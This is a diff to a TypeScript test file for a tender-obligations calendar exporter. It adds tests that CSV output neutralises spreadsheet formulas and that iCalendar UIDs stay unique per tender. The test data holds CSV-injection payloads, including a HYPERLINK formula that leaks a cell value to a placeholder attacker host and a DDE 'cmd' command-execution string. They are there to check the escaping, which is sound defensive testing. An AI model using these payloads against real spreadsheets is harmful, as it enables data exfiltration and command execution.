@@ -1,3 +1,7 @@
+import { execFileSync, spawnSync } from "node:child_process";
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
 import ICAL from "ical.js";
 import { describe, expect, test } from "vitest";
 import { fixtureLibrary } from "../../test/fixtures/library.js";
@@ -27,6 +31,7 @@ const usPlan = (over: unknown = {}) =>
 
 function entry(over: Partial<CalendarEntry>): CalendarEntry {
   return {
+    tender: { title: "Cleaning", buyer: "Agency", reference: "REF-1" },
     obligation: "audit-supplier-recurring",
     topic: "audit",
     party: "supplier",
@@ -96,7 +101,7 @@ describe("calendarToCsv", () => {
     const csv = calendarToCsv([entry({ action: 'Report "promptly", then\nfollow up', evidence: ["Log", "Form A"] })]);
     const lines = csv.split("\r\n");
     expect(lines[0]).toBe(
-      "date,when,occurrence,obligation,topic,party,action,timing,date_note,evidence,clauses,satisfies",
+      "date,when,occurrence,obligation,topic,party,action,timing,date_note,evidence,clauses,satisfies,tender_reference,tender_title,buyer",
     );
     expect(csv).toContain('"Report ""promptly"", then\nfollow up"');
     expect(csv).toContain(",Log; Form A,");
@@ -104,6 +109,97 @@ describe("calendarToCsv", () => {
     expect(csv.replace(/"[^"]*(?:""[^"]*)*"/g, "").includes("\n\n")).toBe(false);
   });
 });
+
+/** Cells that start a formula in a spreadsheet (OWASP's CSV-injection list), as custom clauses could write them. */
+const FORMULAS = [
+  "=1+1",
+  "+2+3",
+  "-2+3",
+  "@SUM(1,1)",
+  "\t=1+1",
+  "\r=1+1",
+  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
+  "=cmd|' /C calc'!A0",
+  "-",
+];
+const formulaEntries = () =>
+  FORMULAS.map((f, i) =>
+    entry({ obligation: `o${i}`, action: f, timingText: f, evidence: [f, "Log"], satisfies: [f] }),
+  );
+
+describe("calendarToCsv neutralises formulas", () => {
+  test("a field starting with = + - @ tab or CR is prefixed with a single quote and quoted", () => {
+    const csv = calendarToCsv(formulaEntries());
+    const rows = csv.split("\r\n");
+    expect(rows[1]).toBe(
+      `2026-01-01,dated,,o0,audit,supplier,"'=1+1","'=1+1",n,"'=1+1; Log",c,"'=1+1",REF-1,Cleaning,Agency`,
+    );
+    expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for details"")",`);
+    expect(csv).toContain(`,"'\t=1+1",`);
+    expect(csv).toContain(`,"'\r=1+1",`);
+    expect(csv).toContain(`,"'-",`);
+    // a formula character elsewhere in a field is harmless and stays as it is
+    expect(calendarToCsv([entry({ action: "a=1+1, b", evidence: ["x@y"] })])).toContain(
+      `,"a=1+1, b",Every year from the start date,n,x@y,`,
+    );
+  });
+});
+
+const sofficeAvailable =
+  Boolean(process.env.CI) || spawnSync("sh", ["-c", "command -v soffice"], { stdio: "ignore" }).status === 0;
+if (!sofficeAvailable) console.warn("soffice not found: skipping the LibreOffice Calc CSV test (it runs when CI=true)");
+
+describe.skipIf(!sofficeAvailable)("LibreOffice Calc opens the CSV", () => {
+  test("and evaluates no formula: every cell shows the text the calendar holds", () => {
+    const dir = mkdtempSync(join(tmpdir(), "fairtender-csv-"));
+    try {
+      const entries = formulaEntries();
+      writeFileSync(join(dir, "calendar.csv"), calendarToCsv(entries));
+      execFileSync(
+        "soffice",
+        [
+          `-env:UserInstallation=file://${join(dir, "profile")}`,
+          "--headless",
+          "--infilter=CSV:44,34,76", // comma, double quote, UTF-8
+          "--convert-to",
+          "html",
+          "--outdir",
+          dir,
+          join(dir, "calendar.csv"),
+        ],
+        { stdio: "ignore", timeout: 120_000 },
+      );
+      const html = readFileSync(join(dir, "calendar.html"), "utf8");
+      const rows = [...html.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map((r) =>
+        [...r[1]!.matchAll(/<td[^>]*>([\s\S]*?)<\/td>/g)].map((c) => cellText(c[1]!)),
+      );
+      expect(rows).toHaveLength(entries.length + 1);
+      const shown = (v: string) => `'${v.replace(/\r/g, "\n")}`;
+      entries.forEach((e, i) => {
+        const row = rows[i + 1]!;
+        expect(row[6], e.action).toBe(shown(e.action));
+        expect(row[7], e.action).toBe(shown(e.timingText));
+        expect(row[9], e.action).toBe(shown(e.evidence.join("; ")));
+        expect(row[11], e.action).toBe(shown(e.satisfies[0]!));
+      });
+      expect(html).not.toMatch(/<a\s/i); // no HYPERLINK() evaluated
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  }, 180_000);
+});
+
+/** The text of an HTML table cell as LibreOffice writes it. */
+function cellText(inner: string): string {
+  return inner
+    .replace(/<br\s*\/?>/gi, "\n")
+    .replace(/<[^>]+>/g, "")
+    .replace(/&quot;/g, '"')
+    .replace(/&lt;/g, "<")
+    .replace(/&gt;/g, ">")
+    .replace(/&#(\d+);/g, (_, n: string) => String.fromCodePoint(Number(n)))
+    .replace(/&amp;/g, "&");
+}
 
 describe("calendarToICalendar", () => {
   const s: Selection = usPlan({ risk: { level: "high", basis: "own" } });
@@ -144,12 +240,68 @@ describe("calendarToICalendar", () => {
     const out = calendarToICalendar([entry({ action: tricky, timingText: "Within 5 days, then; again" })]);
     const ev = new ICAL.Component(ICAL.parse(out)).getFirstSubcomponent("vevent");
     expect(ev?.getFirstPropertyValue("description")).toBe(
-      `${tricky}\nWhen: Within 5 days, then; again (n)\nClauses: c\nSatisfies: gb: PPN 009`,
+      `Tender: REF-1 Cleaning (Agency)\n${tricky}\nWhen: Within 5 days, then; again (n)\nClauses: c\nSatisfies: gb: PPN 009`,
     );
     expect(ev?.getFirstPropertyValue("summary")).toBe(
-      "Audit, monitoring and cooperation (supplier): Within 5 days, then; again",
+      "REF-1: Audit, monitoring and cooperation (supplier): Within 5 days, then; again",
     );
     expect(escapeText("a,b;c\\d\ne")).toBe("a\\,b\\;c\\\\d\\ne");
+  });
+
+  test("two tenders on the same dates never share a UID, and each calendar and event names its tender", () => {
+    const a = usPlan({ procurement: { reference: "SAQMMA-26-R-0142" } });
+    const b = usPlan({ procurement: { reference: "SAQMMA-26-R-0999" }, buyer: { name: "US Agency for Global Media" } });
+    const c = usPlan({ procurement: { reference: undefined } });
+    const d = usPlan({ procurement: { reference: undefined, title: "Guard services at a consulate" } });
+    const parsed = [a, b, c, d].map((s) => {
+      const ics = calendarToICalendar(obligationCalendar(s));
+      return { s, ics, comp: new ICAL.Component(ICAL.parse(ics)) };
+    });
+    // the same dates: the calendars differ only by the tender
+    const dates = (comp: ICAL.Component) =>
+      comp.getAllSubcomponents("vevent").map((e) => (e.getFirstPropertyValue("dtstart") as ICAL.Time).toString());
+    for (const { comp } of parsed) expect(dates(comp)).toEqual(dates(parsed[0]!.comp));
+    const uids = parsed.map(({ comp }) =>
+      comp.getAllSubcomponents("vevent").map((e) => e.getFirstPropertyValue("uid")),
+    );
+    expect(uids[0]!.length).toBeGreaterThan(3);
+    expect(new Set(uids.flat()).size).toBe(uids.flat().length);
+    for (const { s, comp } of parsed) {
+      const p = s.profile.procurement;
+      const label = p.reference ?? p.title;
+      const name = `${p.reference ? `${p.reference} ` : ""}${p.title} (${s.profile.buyer.name}): obligations`;
+      expect(comp.getFirstPropertyValue("name")).toBe(name);
+      expect(comp.getFirstPropertyValue("x-wr-calname")).toBe(name);
+      for (const ev of comp.getAllSubcomponents("vevent")) {
+        expect(ev.getFirstPropertyValue("summary")).toMatch(
+          new RegExp(`^${label.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}: `),
+        );
+        expect(ev.getFirstPropertyValue("description")).toMatch(
+          new RegExp(`^Tender: ${name.replace(/: obligations$/, "").replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}\n`),
+        );
+      }
+    }
+    // and the CSVs differ too: every row names the tender
+    const csvA = calendarToCsv(obligationCalendar(a));
+    const csvB = calendarToCsv(obligationCalendar(b));
+    expect(csvA).not.toBe(csvB);
+    for (const row of csvB.split("\r\n").slice(1, -1))
+      expect(row.endsWith(",SAQMMA-26-R-0999,Guard services at an embassy,US Agency for Global Media")).toBe(true);
+    // the same tender: byte-identical
+    expect(calendarToICalendar(obligationCalendar(usPlan({ procurement: { reference: "SAQMMA-26-R-0142" } })))).toBe(
+      parsed[0]!.ics,
+    );
+  });
+
+  test("UIDs follow the tender and the obligation: a new title or new dates update the same events", () => {
+    const uids = (over: unknown) =>
+      new ICAL.Component(ICAL.parse(calendarToICalendar(obligationCalendar(usPlan(over)))))
+        .getAllSubcomponents("vevent")
+        .map((e) => e.getFirstPropertyValue("uid"));
+    const base = uids({ procurement: { reference: "R-1" } });
+    expect(uids({ procurement: { reference: "R-1", title: "Guard services, revised" } })).toEqual(base);
+    expect(uids({ procurement: { reference: "R-1", startDate: "2025-03-01" } })).toEqual(base);
+    expect(uids({ procurement: { reference: "R-2" } }).some((u) => base.includes(u))).toBe(false);
   });
 
   test("folding never splits a multi-byte character and keeps 75 octets", () => {
